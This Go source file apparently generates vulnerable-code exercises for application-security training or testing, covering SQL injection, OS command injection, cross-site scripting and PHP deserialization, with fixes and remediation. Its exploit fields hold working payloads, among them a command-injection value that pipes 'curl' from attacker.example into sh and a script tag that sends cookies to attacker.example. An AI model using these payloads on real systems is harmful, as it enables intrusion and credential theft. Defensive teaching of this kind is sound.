package appsec

func injectionGenerators() []Generator {
	return []Generator{
		{
			Archetype: "sql-injection", Language: "python", Framework: "flask",
			Levels:        []Difficulty{Beginner, Intermediate, RealWorldEnterprise},
			FilePath:      "app/routes/{{.Entities}}.py",
			Explanation:   "The {{.Param}} query parameter is concatenated into the SQL text of {{.FuncSnake}}, so a quote in it ends the string literal and the rest is parsed as SQL.",
			Exploit:       "GET {{.Endpoint}}?{{.Param}}=x'+UNION+SELECT+name,sql+FROM+sqlite_master-- returns the schema; further UNION queries read any table of the database.",
			Fix:           "Pass {{.Param}} as a bound parameter (the ? placeholder) so the driver sends it as data, never as SQL.",
			Remediation:   []string{"Replace string concatenation with a parameterised query.", "Review every other query built from request data.", "Run the database connection with a read-only account where the endpoint only reads."},
			Preconditions: []string{"Network access to {{.Endpoint}}.", "No authentication is required by the route."},
		},
		{
			Archetype: "sql-injection", Language: "java", Framework: "spring-boot",
			Levels:        []Difficulty{Intermediate, Advanced},
			FilePath:      "src/main/java/com/example/{{.Entities}}/{{.EntityPascal}}Controller.java",
			Explanation:   "{{.EntityPascal}}Controller.{{.Func}} builds its SQL by concatenating the {{.Param}} request parameter, and JdbcTemplate.queryForList(String) executes the text as given.",
			Exploit:       "GET {{.Endpoint}}?{{.Param}}=' OR '1'='1 lists every row of {{.Table}}; a stacked UNION SELECT reads other tables such as users.",
			Fix:           "Use the queryForList(sql, args...) overload with a ? placeholder so {{.Param}} is bound as a value.",
			Remediation:   []string{"Bind request values with ? placeholders or NamedParameterJdbcTemplate.", "Add a static-analysis rule that flags JdbcTemplate calls with concatenated SQL."},
			Preconditions: []string{"Network access to {{.Endpoint}}."},
		},
		{
			Archetype: "os-command-injection", Language: "go", Framework: "net-http",
			Levels:        []Difficulty{Beginner, Advanced, RealWorldEnterprise},
			FilePath:      "internal/{{.Entities}}/archive.go",
			Explanation:   "{{.FuncPascal}} hands a string containing the {{.Param}} query parameter to sh -c, so shell metacharacters in it run further commands with the service's privileges.",
			Exploit:       "GET {{.Endpoint}}?{{.Param}}=x;curl+-s+http://attacker.example/s|sh makes the handler download and run a script.",
			Fix:           "Validate {{.Param}} against an allow-list pattern and run tar directly with an argument vector instead of through a shell.",
			Remediation:   []string{"Never pass request data to sh -c; call the program with exec.CommandContext(name, args...).", "Validate identifiers with an allow-list pattern before building paths.", "Run the service as an unprivileged user."},
			Preconditions: []string{"Network access to the archive endpoint."},
		},
		{
			Archetype: "cross-site-scripting", Language: "javascript", Framework: "express",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "routes/{{.Entities}}.js",
			Explanation:   "The handler writes the {{.Param}} query parameter and stored {{.Field}} values into HTML without encoding, so markup in either runs as script in the victim's browser.",
			Exploit:       "A link to {{.Endpoint}}/search?{{.Param}}=<script>fetch('//attacker.example/?c='+document.cookie)</script> sends the victim's cookies to the attacker when opened.",
			Fix:           "HTML-encode every untrusted value before it is written into the page (or render through a template engine that escapes by default).",
			Remediation:   []string{"Encode output for its HTML context.", "Prefer a template engine with automatic escaping.", "Add a Content-Security-Policy that forbids inline script."},
			Preconditions: []string{"The victim opens a link crafted by the attacker while signed in."},
		},
		{
			Archetype: "insecure-deserialization", Language: "php", Framework: "plain-php",
			Levels:        []Difficulty{Intermediate, Expert},
			FilePath:      "src/{{.EntityPascal}}Preferences.php",
			Explanation:   "unserialize() runs on a cookie the client controls; it instantiates any class the attacker names and triggers its magic methods (__wakeup, __destruct) before the instanceof check.",
			Exploit:       "The attacker sets {{.Entity}}_prefs to a base64 serialized gadget chain from a library the application autoloads (for example a logger whose __destruct writes a file) and gains file write or code execution.",
			Fix:           "Store the preferences as JSON and copy only the expected string fields; never unserialize client data.",
			Remediation:   []string{"Replace unserialize on untrusted data with json_decode.", "If serialized data must be read, pass ['allowed_classes' => false] and sign the cookie with an HMAC."},
			Preconditions: []string{"A gadget class is loadable in the application.", "The attacker can set cookies for the site (their own session suffices)."},
		},
	}
}
